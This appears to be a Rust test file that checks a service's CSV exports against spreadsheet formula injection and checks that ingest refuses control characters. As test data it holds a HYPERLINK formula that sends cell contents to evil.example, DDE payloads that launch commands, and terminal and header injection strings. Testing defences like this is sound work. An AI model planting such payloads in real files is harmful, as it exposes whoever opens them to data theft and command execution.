//! Output that attacks its reader. Ingest controls team, provider, model,
//! workflow and task; finance opens the exports in a spreadsheet, operators
//! read them in terminals and logs. So every cell of every CSV is defused by
//! one function, and control characters never get in.

use crate::helpers::{event, TestApp};
use axum::body::Body;
use axum::http::StatusCode;
use serde_json::{json, Value};

/// Values a spreadsheet would run as formulas (OWASP's starting characters;
/// a tab or carriage return cannot get in, being control characters).
const FORMULAS: [(&str, &str); 5] = [
    ("team", "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")"),
    ("provider", "+cmd|' /c calc'!a0"),
    ("model", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("workflow", "-2+3+cmd|' /C calc'!A0"),
    ("project", "=1+1"),
];

fn hostile_call() -> Value {
    let mut e = event("formula-1");
    e["timestamp"] = json!(chrono::Utc::now().to_rfc3339());
    e["cost"] = json!("1.25");
    for (field, value) in FORMULAS {
        match field {
            "provider" | "model" => e[field] = json!(value),
            _ => e["tags"][field] = json!(value),
        }
    }
    e["task_id"] = json!("=cmd|' /C calc'!A0");
    e
}

/// Every cell of a CSV, parsed as a spreadsheet would read it.
fn cells(text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
}

#[tokio::test]
async fn no_export_cell_can_run_as_a_formula() {
    let app = TestApp::new().await;
    let (status, report) = app.post_events(json!([hostile_call()])).await;
    assert_eq!((status, report["accepted"].clone()), (StatusCode::OK, json!(1)), "{report}");
    let cookie = app.sign_in_as("viewer").await;
    let today = chrono::Utc::now().format("%Y-%m-%d").to_string();
    let mut exports: Vec<(String, String)> = Vec::new();
    let (status, _, focus) = app.focus_csv(&today, &today).await;
    assert_eq!(status, StatusCode::OK);
    exports.push(("FOCUS (API)".into(), focus));
    let mut pages = vec![format!("/focus.csv?from={today}&to={today}")];
    for by in ["team", "provider", "model", "workflow", "project"] {
        pages.push(format!("/explore.csv?period=7d&by={by}"));
    }
    for path in pages {
        let req = TestApp::browser("GET", &path, Some(&cookie)).body(Body::empty()).unwrap();
        let (status, _, bytes) = app.send(req).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        exports.push((path, String::from_utf8(bytes).unwrap()));
    }
    for (what, text) in &exports {
        for cell in cells(text) {
            assert_eq!(
                domain::attribution::csv_cell::defuse(&cell),
                cell.as_str(),
                "{what}: a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    // Each hostile value did reach an export, defused.
    let all: Vec<String> = exports.iter().flat_map(|(_, t)| cells(t)).collect();
    for (field, value) in FORMULAS {
        let shown = format!("'{value}");
        assert!(all.iter().any(|c| c == &shown || c.contains(&shown)), "{field}: {shown:?} is in no export");
    }
}

#[tokio::test]
async fn control_characters_and_overlong_providers_are_refused_by_name() {
    let app = TestApp::new().await;
    let cases: [(&str, Value, &str); 5] = [
        ("model", json!("gpt-4o\u{1b}[2J"), "model: must not contain control characters (found U+001B)"),
        ("provider", json!("openai\nX-Injected: 1"), "provider: must not contain control characters (found U+000A)"),
        ("task_id", json!("task\u{7}"), "task_id: must not contain control characters (found U+0007)"),
        ("id", json!("call\u{0}1"), "id: must not contain control characters (found U+0000)"),
        ("provider", json!("p".repeat(65)), "provider: must be at most 64 characters"),
    ];
    let events: Vec<Value> = cases
        .iter()
        .enumerate()
        .map(|(i, (field, value, _))| {
            let mut e = event(&format!("ctl-{i}"));
            e[*field] = value.clone();
            e
        })
        .collect();
    let (status, report) = app.post_events(json!(events)).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["accepted"], 0, "{report}");
    let rejected = report["rejected"].as_array().unwrap();
    for (i, (_, _, why)) in cases.iter().enumerate() {
        assert_eq!(rejected[i]["index"], i, "{report}");
        assert_eq!(rejected[i]["error"], *why, "{report}");
    }
    // The longest provider allowed still goes in.
    let mut ok = event("ctl-ok");
    ok["provider"] = json!("p".repeat(64));
    assert_eq!(app.post_events(json!([ok])).await.1["accepted"], 1);
}
